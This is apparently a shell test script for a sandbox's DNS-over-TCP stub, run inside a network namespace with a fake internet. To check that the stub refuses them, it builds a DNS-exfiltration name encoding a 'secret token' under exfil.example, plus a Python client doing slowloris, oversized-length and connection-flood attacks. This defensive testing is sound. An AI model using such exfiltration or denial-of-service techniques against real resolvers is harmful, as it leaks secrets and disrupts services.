#!/bin/bash
# SPDX-License-Identifier: LGPL-2.1-or-later
# The per-attempt DNS stub over TCP (root; the fetch-only part also as uid
# 65534). A fake internet in a namespace of the test's (lib.sh: NET with
# 198.51.100.1-2 and 2001:db8::1-2) also runs a DNS server of the test's on
# 198.51.100.1:53 and [2001:db8::1]:53, TCP and UDP, that logs every byte it
# gets: it must never see one. Checked inside a restricted attempt (root,
# the fake internet as the uplink, mirror.test:8080 allowed):
#   - a query over TCP for the allowed name answers (A, AAAA), for a name
#     carrying data REFUSED; the same name sent straight to the fake
#     internet's server over TCP gets nothing;
#   - two queries pipelined in one write get two answers;
#   - hostile clients are bounded: a declared length over 1024 and a length
#     of 0 close the connection at once, a query that never completes is
#     closed within the idle bound (5 s), 40 connections at once leave 16
#     open and close the other 24 at once, 70 queries on one connection get
#     64 answers then the end; the stub still answers afterwards;
#   - the result's network.dns: "DNS/TCP" records for each of these, the
#     listener reported as UDP and TCP, the stub reaped.
# Then fetch-only as root and as uid 65534: the C library with
# RES_OPTIONS=use-vc (TCP only) resolves the allowed name through the stub
# and not another one. After each: nothing left in the fake internet.
#
#   test-dns-tcp.sh FORGEYARD FY-NETPROBE ECHO-SERVER.PY
set -u
FY=$1 PROBE=$2 ECHO=$3
if [ "$(id -u)" != 0 ]; then echo "SKIP: the test makes network namespaces (root)"; exit 77; fi
command -v nft >/dev/null || { echo "SKIP: nft missing (apt install nftables)"; exit 77; }
command -v python3 >/dev/null || { echo "SKIP: python3 missing"; exit 77; }

NS=fyt-dnstcp-$$-$RANDOM
. "$(dirname "$0")/lib.sh"
DNS=
net_cleanup_extra() { [ -n "$DNS" ] && kill "$DNS" 2>/dev/null && wait "$DNS" 2>/dev/null; }
net_init fy-dnstcp
chmod 755 "$TMP"
net_fake_internet "$NS" "$ECHO"
mkdir -m 755 "$TMP/probe" && cp "$PROBE" "$TMP/probe/" && chmod 755 "$TMP/probe/"*
printf '198.51.100.1 mirror.test\n2001:db8::1 mirror.test\n' >"$TMP/hosts"
chmod 644 "$TMP/hosts"
state() { net_ns_state "$NS" | grep -v fe80; }
state >"$TMP/before"
nothing_left() {
    state >"$TMP/after"
    nothing_left_cmp "$1" "the fake internet" "$TMP/before" "$TMP/after" && ok "$1: nothing left in the fake internet"
}

# The fake internet's DNS server: logs whatever reaches it, TCP or UDP.
ip netns exec "$NS" python3 -c '
import socket, select, sys
ls = []
for fam, a in ((socket.AF_INET, "198.51.100.1"), (socket.AF_INET6, "2001:db8::1")):
    u = socket.socket(fam, socket.SOCK_DGRAM); u.bind((a, 53)); ls.append(u)
    t = socket.socket(fam, socket.SOCK_STREAM); t.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    t.bind((a, 53)); t.listen(64); ls.append(t)
open(sys.argv[1] + ".up", "w").write("x")
conns = []
while True:
    r, _, _ = select.select(ls + conns, [], [], 300)
    if not r: break
    for s in r:
        if s.type == socket.SOCK_STREAM and s in ls:
            c, _ = s.accept(); conns.append(c); open(sys.argv[1], "ab").write(b"tcp connection\n")
        elif s in conns:
            d = s.recv(4096)
            if not d: conns.remove(s); s.close()
            else: open(sys.argv[1], "ab").write(d + b"\n")
        else:
            d, _ = s.recvfrom(4096); open(sys.argv[1], "ab").write(d + b"\n")
' "$TMP/dnslog" &
DNS=$!
for _ in $(seq 50); do [ -e "$TMP/dnslog.up" ] && break; sleep 0.1; done
[ -e "$TMP/dnslog.up" ] || { echo "the fake DNS server did not start"; exit 1; }

X=aGVsbG8td29ybGQtc2VjcmV0LXRva2VuLTEyMzQ1Njc4OTA.exfil.example
cat >"$TMP/probe/hostile.py" <<'PY'
import socket, struct, sys, time
S = ("127.0.0.53", 53)

def query(name, qtype=1, qid=0x1234):
    q = struct.pack(">HHHHHH", qid, 0x0100, 1, 0, 0, 0)
    for l in name.split("."):
        q += bytes([len(l)]) + l.encode()
    return q + b"\0" + struct.pack(">HH", qtype, 1)

def framed(m):
    return struct.pack(">H", len(m)) + m

def read_answer(s, timeout=3):
    s.settimeout(timeout)
    h = b""
    while len(h) < 2:
        d = s.recv(2 - len(h))
        if not d: return None
        h += d
    n = struct.unpack(">H", h)[0]
    b = b""
    while len(b) < n:
        d = s.recv(n - len(b))
        if not d: return None
        b += d
    return b

def closed(s, timeout):
    # True when the peer ends the connection within timeout (EOF or reset).
    s.settimeout(timeout)
    try:
        return s.recv(1) == b""
    except ConnectionResetError:
        return True
    except socket.timeout:
        return False

def conn():
    return socket.create_connection(S, 3)

# Pipelined: two queries in one write, two answers, ids kept.
s = conn()
s.sendall(framed(query("mirror.test", 1, 1)) + framed(query("mirror.test", 28, 2)))
a, b = read_answer(s), read_answer(s)
print("pipelined", a is not None and b is not None and a[:2] == b"\0\1" and b[:2] == b"\0\2" and
      (a[3] & 15) == 0 and (b[3] & 15) == 0)
s.close()
# A declared length over 1024, then one of 0: closed at once.
s = conn(); s.sendall(struct.pack(">H", 65535) + b"x" * 100)
print("oversize-closed", closed(s, 2)); s.close()
s = conn(); s.sendall(struct.pack(">H", 0))
print("zero-closed", closed(s, 2)); s.close()
# Slowloris: one byte of the length, then nothing: closed within the idle bound.
s = conn(); s.sendall(b"\0"); t0 = time.time()
c = closed(s, 9)
print("slowloris-closed", c and time.time() - t0 < 8.5); s.close()
# 40 connections at once: 16 stay open, 24 are closed at once.
# (the closed ones counted as they close, bounded at 4 s, not after a
# sleep: the open ones are then served at once, well within their idle bound)
cs = [conn() for _ in range(40)]
gone, t_end = set(), time.time() + 4
while len(gone) < 24 and time.time() < t_end:
    for i, x in enumerate(cs):
        if i not in gone and closed(x, 0.01):
            gone.add(i)
print("many", len(gone))
# An open one is still served.
served = 0
for x in cs:
    try:
        x.sendall(framed(query("mirror.test")))
        if read_answer(x, 2) is not None:
            served += 1
    except OSError:
        pass
print("many-served", served)
for x in cs: x.close()
# 70 queries on one connection: 64 answers, then the end.
s = conn(); got = 0
for i in range(70):
    try:
        s.sendall(framed(query("mirror.test", 1, i)))
        if read_answer(s, 2) is None: break
        got += 1
    except OSError:
        break
print("per-connection", got)
s.close()
# Still answering.
s = conn(); s.sendall(framed(query("mirror.test"))); a = read_answer(s)
print("after", a is not None and (a[3] & 15) == 0)
PY
cat >"$TMP/probe/dns.sh" <<IN
P=/opt/fyprobe/fy-netprobe
echo "a \$(\$P dnsqt 127.0.0.53 mirror.test 1)"
echo "aaaa \$(\$P dnsqt 127.0.0.53 mirror.test 28)"
echo "exfil \$(\$P dnsqt 127.0.0.53 $X 1)"
echo "exfil-direct \$(\$P dnsqt 198.51.100.1 $X 1)"
echo "exfil-direct6 \$(\$P dnsqt 2001:db8::1 $X 1)"
python3 /opt/fyprobe/hostile.py
IN
chmod 644 "$TMP/probe/dns.sh" "$TMP/probe/hostile.py"

# 1. Restricted (root): the stub over TCP, hostile clients, the audit.
timeout 120 "$FY" run --profile standard-ci --network restricted --network-uplink "/run/netns/$NS" \
    --network-hosts "$TMP/hosts" --allow mirror.test:8080 --bind-ro "$TMP/probe:/opt/fyprobe" \
    --result "$TMP/r.json" -- /bin/sh /opt/fyprobe/dns.sh >"$TMP/dns.out" 2>&1
cat "$TMP/dns.out"
grep -qx "a rcode=0 an=1 198.51.100.1" "$TMP/dns.out" && grep -qx "aaaa rcode=0 an=1 2001:db8::1" "$TMP/dns.out" &&
    ok "over TCP the stub answers the allowed name (A, AAAA)" || bad "TCP: the allowed name"
grep -qx "exfil rcode=5 an=0" "$TMP/dns.out" && ok "over TCP a name carrying data is REFUSED" || bad "TCP: the exfil name"
grep -q "^exfil-direct tcp: " "$TMP/dns.out" && grep -q "^exfil-direct6 tcp: " "$TMP/dns.out" &&
    ok "the fake internet's DNS server is not reachable over TCP (v4, v6)" || bad "TCP straight to the fake internet"
grep -qx "pipelined True" "$TMP/dns.out" && ok "two pipelined queries get their two answers" || bad "pipelined"
grep -qx "oversize-closed True" "$TMP/dns.out" && grep -qx "zero-closed True" "$TMP/dns.out" &&
    ok "a declared length over 1024 or of 0 closes the connection" || bad "oversize/zero length"
grep -qx "slowloris-closed True" "$TMP/dns.out" && ok "a query that never completes is closed within the idle bound" ||
    bad "slowloris"
grep -qx "many 24" "$TMP/dns.out" && grep -qx "many-served 16" "$TMP/dns.out" &&
    ok "40 connections at once: 16 served, 24 closed at once" || bad "connection limit"
grep -qx "per-connection 64" "$TMP/dns.out" && ok "one connection: 64 queries answered, then closed" ||
    bad "queries per connection"
grep -qx "after True" "$TMP/dns.out" && ok "the stub still answers after the hostile clients" || bad "stub after"
sleep 0.3
[ ! -s "$TMP/dnslog" ] && ok "the fake internet's DNS server never saw a byte (TCP or UDP)" ||
    bad "the fake internet's DNS server got: $(cat -v "$TMP/dnslog")"
python3 - "$TMP/r.json" "$X" <<'PY' && ok "network.dns: DNS/TCP records (allowed, refused, each bound), listener udp and tcp, stub reaped" || bad "network.dns"
import json, sys
r = json.load(open(sys.argv[1]))
d = r["network"]["dns"]
assert d["ended"] is True and "seccomp-allowlist" in d["confinement"], d
assert "/udp" in d["listen"] and "/tcp" in d["listen"], d["listen"]
q = [x for x in d["queries"] if x["method"] == "DNS/TCP"]
keys = {(x["host"], x["decision"]) for x in q}
assert ("mirror.test", "allowed") in keys, q
assert (sys.argv[2].lower(), "refused") in keys, q
reasons = " | ".join(x["reason"] for x in q)
for want in ("declared length 65535", "declared length 0 ", "query not complete within 5 s", "16 connections open already"):
    assert want in reasons, (want, reasons)
assert sum(1 for x in q if "16 connections open already" in x["reason"]) == 24, reasons
PY
nothing_left "restricted"

# 2. Fetch-only, root and uid 65534: the C library over TCP only.
cat >"$TMP/probe/libc.sh" <<IN
export RES_OPTIONS="use-vc attempts:1 timeout:2"
getent hosts mirror.test | head -1 | cut -d' ' -f1 | sed 's/^/libc /'
getent hosts $X >/dev/null 2>&1; echo "libc-exfil \$?"
/opt/fyprobe/fy-netprobe dnsqt 127.0.0.53 mirror.test 1 | sed 's/^/tcp /'
IN
chmod 644 "$TMP/probe/libc.sh"
for who in root nobody; do
    pre=
    res="$TMP/f-$who.json"
    if [ $who = nobody ]; then
        mkdir -p "$TMP/nobody" && chown 65534:65534 "$TMP/nobody"
        pre="setpriv --reuid 65534 --regid 65534 --clear-groups env HOME=/tmp"
        res="$TMP/nobody/f.json"
    fi
    timeout 120 $pre "$FY" run --profile standard-ci --network fetch-only --network-hosts "$TMP/hosts" \
        --allow mirror.test:8080 --bind-ro "$TMP/probe:/opt/fyprobe" --result "$res" \
        -- /bin/sh /opt/fyprobe/libc.sh >"$TMP/libc.out" 2>&1
    if grep -Eqx "libc (198.51.100.1|2001:db8::1)" "$TMP/libc.out" && grep -qx "libc-exfil 2" "$TMP/libc.out" &&
        grep -qx "tcp rcode=0 an=1 198.51.100.1" "$TMP/libc.out" &&
        python3 -c '
import json, sys
d = json.load(open(sys.argv[1]))["network"]["dns"]
q = [x for x in d["queries"] if x["method"] == "DNS/TCP"]
assert any(x["host"] == "mirror.test" and x["decision"] == "allowed" for x in q), q
assert not any(x["method"] == "DNS" for x in d["queries"]), d["queries"]  # use-vc: TCP only
assert d["ended"] is True' "$res"; then
        ok "fetch-only ($who): getaddrinfo with use-vc resolves the allowed name over TCP only, not another"
    else
        bad "fetch-only ($who) over TCP"; cat "$TMP/libc.out"; cat "$res" 2>/dev/null | head -c 3000
    fi
done
[ ! -s "$TMP/dnslog" ] && ok "the fake internet's DNS server never saw a byte" || bad "fake DNS server got bytes"
nothing_left "fetch-only"

[ $fail = 0 ] && echo PASS || echo FAILED
exit $fail
